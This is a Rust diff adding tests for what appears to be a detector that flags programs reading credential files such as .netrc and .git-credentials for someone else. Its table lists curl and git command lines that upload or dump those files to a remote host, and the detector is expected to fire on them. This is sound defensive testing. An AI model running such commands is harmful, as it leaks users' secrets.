@@ -281,6 +281,78 @@ fn the_program_a_file_is_made_for_may_read_it_when_it_is_the_systems() {
 }
 
 #[test]
+fn who_is_told_the_file_reads_it_for_somebody_else() {
+    const NETRC: &str = "/home/a/.netrc";
+    const TOKENS: &str = "/home/a/.git-credentials";
+    let table: &[(&str, &[&str], &str, bool)] = &[
+        ("git", &["git", "diff", "--no-index", "/dev/null", TOKENS], TOKENS, true),
+        ("git", &["git", "-C", "/home/a", "hash-object", "-w", ".git-credentials"], TOKENS, true),
+        ("git", &["git", "commit", "--file=../.git-credentials"], TOKENS, true),
+        ("git", &["git", "grep", "--no-index", "", NETRC], NETRC, true),
+        ("git", &["git", "push", "origin", "main"], TOKENS, false),
+        ("git", &["git", "clone", "https://github.com/a/git-credentials"], TOKENS, false),
+        ("git", &["git", "credential-store", "get"], TOKENS, false),
+        ("git", &["git", "credential-store", "--file", TOKENS, "get"], TOKENS, false),
+        (
+            "git",
+            &["git", "credential-store", "--file=/home/a/.git-credentials", "get"],
+            TOKENS,
+            false,
+        ),
+        (
+            "git-remote-http",
+            &["git-remote-https", "origin", "https://github.com/a/b"],
+            NETRC,
+            false,
+        ),
+        ("curl", &["curl", "file:///home/a/.netrc"], NETRC, true),
+        ("curl", &["curl", "FILE:///home/a/%2enetrc"], NETRC, true),
+        ("curl", &["curl", "-K", NETRC], NETRC, true),
+        ("curl", &["curl", "-T", ".netrc", "https://example.com"], NETRC, true),
+        ("curl", &["curl", "-d@/home/a/.netrc", "https://example.com"], NETRC, true),
+        ("curl", &["curl", "-F", "a=@/home/a/.netrc;type=text/plain", "https://b"], NETRC, true),
+        ("curl", &["curl", "--netrc-file", NETRC, "-T", NETRC, "https://b"], NETRC, true),
+        ("curl", &["curl", "-n", "https://example.com/netrc"], NETRC, false),
+        ("curl", &["curl", "-sn", "--netrc-file", NETRC, "https://example.com"], NETRC, false),
+        ("ssh", &["ssh", "-i", "/home/a/.ssh/id_rsa", "host"], "/home/a/.ssh/id_rsa", false),
+        (
+            "kubectl",
+            &["kubectl", "--kubeconfig", "/home/a/.kube/config"],
+            "/home/a/.kube/config",
+            false,
+        ),
+        (
+            "docker",
+            &["docker", "--config", "/home/a/.docker"],
+            "/home/a/.docker/config.json",
+            false,
+        ),
+        ("curl", &[], NETRC, false),
+    ];
+    for (program, argv, path, expected) in table {
+        let mut scene = Scene::new(Covert);
+        scene.process.exe = format!("/usr/bin/{program}");
+        scene.process.argv = argv.iter().map(|&word| word.into()).collect();
+        assert_eq!(fires(&mut scene, &read(path)), *expected, "{argv:?}");
+    }
+    // What a link elsewhere leads to is named by the link.
+    let mut scene = Scene::new(Covert);
+    scene.process.exe = "/usr/bin/curl".into();
+    scene.process.argv = ["curl", "-T", "/tmp/x", "https://b"].map(Into::into).into();
+    assert!(fires(&mut scene, &link("/tmp/x", NETRC)));
+    assert!(!fires(&mut scene, &read(NETRC)));
+}
+
+#[test]
+fn every_program_that_is_told_files_is_an_owner() {
+    let Tables { category } = data(FILE, TEXT).unwrap();
+    for category in &category {
+        assert!(category.told.iter().all(|one| category.owners.contains(one)), "{}", category.name);
+        assert!(category.named_by.is_empty() || !category.told.is_empty(), "{}", category.name);
+    }
+}
+
+#[test]
 fn a_package_the_file_is_made_for_may_read_it() {
     let tokens = read("/home/a/.mcp-auth/mcp-remote-0.1.0/abc_tokens.json");
     let mut scene = Scene::new(Startup);
